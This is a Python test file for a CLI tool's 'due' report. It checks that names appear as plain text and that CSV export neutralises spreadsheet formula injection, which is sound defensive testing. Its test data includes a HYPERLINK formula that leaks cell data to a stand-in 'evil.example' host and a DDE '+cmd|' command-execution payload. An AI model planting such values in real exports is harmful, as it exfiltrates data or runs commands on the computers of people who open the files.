"""The `cpctl due` table shows names as they were written: text, never markup."""

from __future__ import annotations

from pathlib import Path

from helpers import Run, ok


def test_names_in_the_table_are_not_read_as_markup(cli: Run, initialised: Path) -> None:
    ok(cli("child", "add", "[bold]Sam[/bold]", "Testwood", "--dob", "2019-03-04", "--id", "T1"))
    ok(cli("child", "strategy", "T1", "--on", "today"))
    assert "T1 [bold]Sam[/bold] Testwood" in ok(cli("due", "--all"))


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(cli: Run, store: object) -> None:
    """A child or a worker named like a formula is written with a leading quote (OWASP's advice for CSV), so a
    spreadsheet shows the name instead of running it; cpctl's own numbers (days overdue) stay numbers."""
    import csv
    import io

    ok(cli("demo", "--db", str(store)))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    ok(cli("child", "edit", "DEMO-1001", "--given-name", formula, "--family-name", "-2+3"))
    ok(cli("person", "edit", "P00004", "--name", "@SUM(A1:A9)"))
    ok(cli("person", "edit", "P00001", "--name", "+cmd|' /C calc'!A0"))
    written = ok(cli("due", "--everyone", "--all", "--csv", "--on", "2030-01-01"))
    table = list(csv.DictReader(io.StringIO(written)))
    jamie = [row for row in table if row["child"] == "DEMO-1001"]
    assert jamie
    for row in jamie:
        assert row["child_name"] == "'" + formula + " -2+3"
        assert row["lead_worker"] == "'@SUM(A1:A9)"
        assert row["chair"] == "'+cmd|' /C calc'!A0"
        assert row["days"].startswith("-") and int(row["days"]) < 0  # a number, as cpctl wrote it
    for row in table:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
        assert not any(cell.startswith("-") for key, cell in row.items() if key != "days")


def test_a_csv_cell_is_neutralised_whatever_hides_its_first_character() -> None:
    from cpctl.commands.due import csv_cell

    for text in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "\x1b=1", "\u202e=1", "\uff1d1+1"):
        assert csv_cell(text).startswith("'"), text
    assert csv_cell("Jamie-Lee Testwood") == "Jamie-Lee Testwood"
    assert csv_cell("2026-12-03") == "2026-12-03"
    assert csv_cell(-3) == -3
